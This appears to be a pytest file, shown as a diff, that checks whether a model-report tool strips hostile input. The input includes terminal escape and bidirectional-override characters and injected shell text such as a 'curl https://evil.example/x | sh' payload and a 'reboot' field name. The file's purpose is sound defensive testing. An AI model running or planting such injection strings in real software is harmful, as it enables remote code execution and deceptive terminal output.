@@ -1,0 +1,112 @@
+"""What a stranger wrote into a report reaches neither Markdown nor a terminal with characters that control either."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from hf_metaprune import AdaptResult, MetaPruner, load_result
+from hf_metaprune.data.task import TaskData
+from hf_metaprune.errors import FormatError
+from hf_metaprune.reporting.report_files import load_report, report_drawings
+
+HOSTILE = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202egnp.exe\u2066\x00"
+CONTROLS = "\x1b\x07\x9b\u202e\u2066\x00"
+
+
+@pytest.fixture(scope="module")
+def result(bank_folder: Path, task_data: TaskData) -> AdaptResult:
+    return MetaPruner.from_hub(bank_folder).adapt(task_data.select((0, 1)), steps=1, batch_size=8, eval_steps=(0,))
+
+
+def poison(value: Any) -> Any:
+    """Add hostile characters to all texts, names of fields apart."""
+    if isinstance(value, dict):
+        return {key: poison(item) for key, item in value.items()}
+    if isinstance(value, list):
+        return [poison(item) for item in value]
+    return value + HOSTILE if isinstance(value, str) else value
+
+
+def test_no_text_of_a_report_controls_what_shows_it(
+    result: AdaptResult, tmp_path: Path, capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from hf_metaprune.cli import main
+
+    result.save_pretrained(tmp_path / "model")
+    path = tmp_path / "model" / "report.json"
+    values = json.loads(path.read_text())
+    values = {key: poison(value) for key, value in values.items()}
+    for key, value in {"seconds": 1.0, "versions": "1.0", "accuracy_per_class": 0.5, "baselines": {"0": 0.5}}.items():
+        values[key][HOSTILE] = value
+    path.write_text(json.dumps(values))
+    loaded = load_result(tmp_path / "model")
+    assert loaded.report.source.endswith(HOSTILE)  # it was read
+    loaded.save_pretrained(tmp_path / "copy")
+    for name in ("report.md", "README.md"):
+        text = (tmp_path / "copy" / name).read_text()
+        assert "gnp.exe" in text
+        assert [line for line in text.splitlines() if set(CONTROLS) & set(line)] == [], name
+    for words in (["inspect", str(tmp_path / "model")], ["publish", str(tmp_path / "model"), "nobody/nowhere"]):
+        monkeypatch.setattr("sys.argv", ["hf-metaprune", *words])
+        with pytest.raises(SystemExit):
+            main(words)
+        output = "".join(capfd.readouterr())
+        assert not set(CONTROLS) & set(output), words
+
+
+@pytest.mark.parametrize(
+    ("changes", "message"),
+    [
+        ({"base_params": 1, "base_macs": 10**400}, "too large"),
+        ({"baseline_flops": {"a": float("inf")}}, "too large"),
+        ({"accuracy_at_step": {"0": 0.5, "1" * 4000: 0.5}}, "too large"),
+        ({"accuracy_at_step": {"0": 0.5, "1": 1.5}}, "outside 0 to 1"),
+        ({"vote_agreement": {"a": {"1": 10**400}}}, "too large"),
+        ({"labels": ["a", 5], "confusion": []}, "is not a text"),
+    ],
+)
+def test_numbers_that_cannot_be_shown_are_refused(
+    result: AdaptResult, tmp_path: Path, changes: dict[str, Any], message: str
+) -> None:
+    result.save_pretrained(tmp_path / "model")
+    path = tmp_path / "model" / "report.json"
+    path.write_text(json.dumps(json.loads(path.read_text()) | changes))
+    with pytest.raises(FormatError, match=message):
+        load_report(path)
+
+
+def test_numbers_of_nothing_can_be_shown(result: AdaptResult, tmp_path: Path) -> None:
+    result.save_pretrained(tmp_path / "model")
+    path = tmp_path / "model" / "report.json"
+    changes = {"base_params": 1, "base_macs": 0, "baseline_flops": {"a": 0}, "training_flops": 0}
+    path.write_text(json.dumps(json.loads(path.read_text()) | changes))
+    assert "0.0%" in load_result(tmp_path / "model").to_html()
+
+
+def test_the_command_of_a_page_has_only_what_commands_have(result: AdaptResult, tmp_path: Path) -> None:
+    result.save_pretrained(tmp_path / "model")
+    path = tmp_path / "model" / "report.json"
+    values = json.loads(path.read_text())
+    values["versions"]["hf_metaprune"] = "1.0; curl https://evil.example/x | sh #"
+    values["given"] = {"steps": 3, "x; reboot": "1"}
+    path.write_text(json.dumps(values))
+    page = load_result(tmp_path / "model").to_html()
+    assert "pip install hf-metaprune\n" in page
+    assert "--steps 3" in page
+    assert "reboot" not in page
+
+
+def test_huge_votes_are_not_drawn(result: AdaptResult, tmp_path: Path) -> None:
+    result.save_pretrained(tmp_path / "model")
+    path = tmp_path / "model" / "report.json"
+    values = json.loads(path.read_text())
+    values["neighbors"] = values["neighbors"][:1] * 1000
+    values["vote_agreement"] = {f"layer{i}": {"1": 1} for i in range(50)}
+    path.write_text(json.dumps(values))
+    report = load_report(path)
+    assert "Votes" not in report_drawings(report)
+    assert "How many voters" not in load_result(tmp_path / "model").to_html()
